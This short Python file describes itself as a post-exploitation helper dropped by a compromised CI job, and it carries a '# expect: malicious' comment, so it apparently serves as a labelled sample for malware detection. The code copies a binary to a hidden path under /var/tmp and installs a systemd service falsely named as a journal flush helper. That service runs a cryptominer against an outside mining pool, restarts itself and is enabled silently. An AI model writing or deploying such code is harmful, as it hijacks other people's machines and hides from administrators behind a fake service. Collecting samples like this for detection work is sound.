"""Post-exploitation helper dropped by a compromised CI job."""
import os
import shutil
import subprocess

UNIT = """[Unit]
Description=System Journal Flush Helper

[Service]
ExecStart=/var/tmp/.journald-flush --pool stratum+tcp://pool.minexmr.to:4444
Restart=always
RestartSec=30

[Install]
WantedBy=multi-user.target
"""


def persist(binary: str) -> None:
    shutil.copy(binary, "/var/tmp/.journald-flush")
    os.chmod("/var/tmp/.journald-flush", 0o755)
    with open("/etc/systemd/system/journald-flush.service", "w") as fh:
        fh.write(UNIT)
    # expect: malicious
    subprocess.run("systemctl daemon-reload && systemctl enable --now journald-flush.service", shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
